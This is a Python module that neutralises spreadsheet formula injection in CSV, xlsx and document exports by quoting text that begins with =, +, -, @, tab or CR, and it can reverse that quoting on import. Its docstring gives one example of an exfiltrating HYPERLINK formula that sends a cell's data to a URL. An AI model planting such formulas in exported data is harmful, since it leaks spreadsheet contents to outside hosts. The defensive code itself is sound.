"""Text that leaves Linli in a file people open in a spreadsheet: no formula gets through.

A resident named ``=HYPERLINK("http://…?d="&H2,"点此查看")`` becomes a live formula when a
workbook cell, a CSV field, or a line copied out of a .docx or PDF into Excel starts with
``=``; ``+``, ``-`` and ``@`` start formulas too, and a leading tab or carriage return hides
one. OWASP's rule for CSV injection (https://owasp.org/www-community/attacks/CSV_Injection)
is to prefix such text with a single quote ``'``: Excel, WPS and LibreOffice then show it as
text, also after the cell is edited. Every export goes through this module:

- :func:`neutralise` — one value: text starting with ``= + - @``, tab or CR gets one ``'`` in
  front; numbers, dates, ``None`` and other text are returned as they are (a negative amount
  written as a number is a number, not a formula);
- :func:`neutralise_lines` — multi-line text (a .docx paragraph, a PDF table cell): each line,
  because each line becomes a row when pasted into a spreadsheet;
- :func:`xlsx_value` — a value for an openpyxl row (normal or write-only mode): neutralised,
  stripped of the control characters XML cannot carry, and never a formula or error cell;
- :func:`unneutralise` — the importer's inverse, so an export imports back to the same text.

The rule is a bijection. Text whose first character that is not ``'`` is dangerous gets one
``'`` more (so ``'=1``, which a person could have typed, is written ``''=1``); the importer
removes exactly one leading ``'`` from text of that shape and leaves every other text alone.
So ``unneutralise(neutralise(x)) == x`` for every string ``x``.
"""

from __future__ import annotations

import re

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_STARTS = frozenset(DANGEROUS)
# XML 1.0 has no place for C0 controls other than tab, LF and CR (openpyxl raises
# IllegalCharacterError on them, lxml a ValueError in python-docx); DEL is legal but invisible.
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
_SPREADSHEET_ERRORS = frozenset(
    ("#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A")
)


def is_dangerous(text: str) -> bool:
    """Whether text, as a cell, could start a formula (looking past any leading quotes)."""
    if not text:
        return False
    first = text[0]
    if first in _STARTS:
        return True
    return first == QUOTE and text.lstrip(QUOTE)[:1] in _STARTS


def neutralise(value):
    """``"=1+1"`` → ``"'=1+1"``; ``"'=1"`` → ``"''=1"``; anything else unchanged.

    Only ``str`` is touched: ints, floats, ``Decimal``, dates and ``None`` pass through, so
    numbers stay numbers in a workbook."""
    if isinstance(value, str) and is_dangerous(value):
        return QUOTE + value
    return value


def unneutralise(text: str) -> str:
    """The importer's inverse of :func:`neutralise`: ``"'=1+1"`` → ``"=1+1"``.

    Removes exactly one leading ``'`` and only from text that :func:`neutralise` would have
    written that way; ``"'abc"`` and ``"'"`` stay as they are."""
    if text[:1] == QUOTE and is_dangerous(text[1:]):
        return text[1:]
    return text


def neutralise_lines(text: str | None) -> str:
    """Each line of a multi-line text neutralised (LF, CR and CRLF kept as they were)."""
    if not text:
        return text or ""
    if "\n" not in text and "\r" not in text:
        return neutralise(text)
    return "".join(neutralise(line) for line in text.splitlines(keepends=True))


def xml_text(text: str) -> str:
    """Text without the characters an XML document cannot hold (vertical tab, form feed, other
    C0 controls; U+FFFE/U+FFFF), which would make openpyxl or python-docx fail the export."""
    return _XML_ILLEGAL.sub("", text) if _XML_ILLEGAL.search(text) else text


def xlsx_value(value, ws=None):
    """A value for an openpyxl row: text neutralised and XML-safe; other values as they are.

    openpyxl turns a ``str`` starting with ``=`` into a formula cell and ``"#N/A"`` (or another
    error literal) into an error cell, in normal and in write-only mode. Neutralised text cannot
    start with ``=``; an error literal is returned as a cell typed as text (``ws`` is the sheet,
    needed for that cell)."""
    if not isinstance(value, str):
        return value
    value = neutralise(xml_text(value))
    if value in _SPREADSHEET_ERRORS:
        from openpyxl.cell import WriteOnlyCell

        cell = WriteOnlyCell(ws, value=value)
        cell.data_type = "s"
        return cell
    return value


def xlsx_cell(ws, value):
    """A write-only cell holding ``value`` (for cells that carry a style): text neutralised,
    XML-safe and typed as text, so it is never a formula or an error cell."""
    from openpyxl.cell import WriteOnlyCell

    if not isinstance(value, str):
        return WriteOnlyCell(ws, value=value)
    cell = WriteOnlyCell(ws, value=neutralise(xml_text(value)))
    cell.data_type = "s"
    return cell


def xlsx_row(values, ws=None) -> list:
    """A whole row through :func:`xlsx_value` (cells already made are kept)."""
    return [xlsx_value(v, ws) for v in values]


def csv_row(values) -> list:
    """A CSV row: every text field neutralised (the ``csv`` module quotes the rest)."""
    return [neutralise(v) for v in values]
